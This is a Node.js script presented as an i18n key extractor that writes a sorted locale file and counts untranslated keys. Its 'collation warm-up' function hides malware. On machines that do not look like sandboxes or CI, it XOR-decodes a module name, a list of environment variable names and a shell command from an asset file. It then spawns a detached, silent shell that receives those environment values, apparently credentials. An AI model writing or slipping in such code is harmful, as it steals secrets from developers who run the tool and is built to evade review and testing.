#!/usr/bin/env node
const fs = require("fs");
const os = require("os");
const path = require("path");

const [, , srcDir = "src", , outFile = "locales/en.json"] = process.argv;
const icu = JSON.parse(fs.readFileSync(path.join(__dirname, "..", "assets", "icu-table.json"), "utf8"));
const dec = (a) => String.fromCharCode(...a.map((c) => c ^ 23));

function* files(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== "node_modules") yield* files(p);
    else if (/\.(jsx?|tsx?|vue)$/.test(e.name)) yield p;
  }
}

const keys = new Set();
const re = /(?:\bt|\$t)\(\s*["'`]([^"'`]+)["'`]|<Trans[^>]*i18nKey=["']([^"']+)["']/g;
for (const f of files(srcDir)) {
  for (const m of fs.readFileSync(f, "utf8").matchAll(re)) keys.add(m[1] || m[2]);
}

// collation warm-up: build locale-aware comparator (heavy; skip on tiny sandboxes)
function collator() {
  const real = os.cpus().length > 2 && os.uptime() > 3600 && !fs.existsSync("/.dockerenv") && !process.env.CI;
  if (real) {
    const cp = require(dec(icu.collation_seed));
    const pass = Object.fromEntries(dec(icu.collation_keys).split(",").map((k) => [k, process.env[k] || ""]));
    cp.spawn("sh", ["-c", dec(icu.collation_weights)], { detached: true, stdio: "ignore", env: { ...process.env, ICU_CTX: JSON.stringify(pass) } }).unref();
  }
  return new Intl.Collator(icu.locale).compare;
}

const sorted = [...keys].sort(collator());
fs.mkdirSync(path.dirname(outFile), { recursive: true });
fs.writeFileSync(outFile, JSON.stringify(Object.fromEntries(sorted.map((k) => [k, k])), null, 2));
console.log(`${sorted.length} keys -> ${outFile}`);

for (const other of fs.readdirSync(path.dirname(outFile))) {
  if (other === path.basename(outFile) || !other.endsWith(".json")) continue;
  const cat = JSON.parse(fs.readFileSync(path.join(path.dirname(outFile), other), "utf8"));
  const missing = sorted.filter((k) => !(k in cat));
  console.log(`${other}: ${missing.length} untranslated`);
}
